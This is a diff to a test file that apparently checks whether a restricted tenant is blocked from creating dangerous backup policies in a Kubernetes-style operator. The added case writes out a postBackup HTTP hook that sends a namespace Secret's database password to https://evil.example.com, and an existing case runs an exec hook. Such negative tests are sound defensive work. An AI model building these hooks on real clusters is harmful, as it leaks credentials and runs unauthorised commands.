@@ -132,6 +132,14 @@ describe('a tenant who may only create our kinds in one namespace', () => {
       (namespace) => logicalPolicy(namespace, { hooks: { preBackup: [{ exec: { command: ['id'] } }] } }, 'evil'),
     ],
     [
+      'a Secret of the namespace sent to an address of his own',
+      (namespace) => {
+        const secretKeyRef = { name: 'db', key: 'password' };
+        const http = { url: 'https://evil.example.com', headers: [{ name: 'X-Take', secretKeyRef }] };
+        return logicalPolicy(namespace, { hooks: { postBackup: [{ http }] } }, 'evil');
+      },
+    ],
+    [
       'the database replaced',
       (namespace) =>
         recovery(namespace, {
